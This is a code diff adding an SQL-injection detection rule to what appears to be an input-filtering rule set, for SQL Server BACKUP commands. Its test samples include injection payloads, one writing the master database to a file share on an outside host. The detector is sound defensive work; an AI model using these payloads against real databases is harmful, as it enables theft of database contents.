@@ -182,6 +182,21 @@ export const sqlFormRules: readonly Rule[] = [
       benign: ['hash bytes with md5', 'HashBytes (MD5)'],
     },
   ),
+  // SQL Server writes the backup to any path, also on a host of the sender.
+  pattern(
+    'sqli/backup',
+    /\bbackup\s{1,4}(?:database|log)\s{1,4}[\w.[\]"']{1,64}\s{1,4}to\s{1,4}(?:disks?|tape|url)\s{0,2}=\s{0,2}n?['"]/,
+    {
+      score: 5,
+      quotable: true,
+      chars: CHAR.apostrophe | CHAR.quote,
+      attacks: [
+        "BACKUP database master to disks='\\\\203.0.113.9\\a\\b.dat'",
+        "1;backup log x to disk = N'c:\\a'",
+      ],
+      benign: ['backup database to disk', 'Backup log of x to disk'],
+    },
+  ),
   {
     id: 'sqli/quote-probe',
     family: 'sqli',
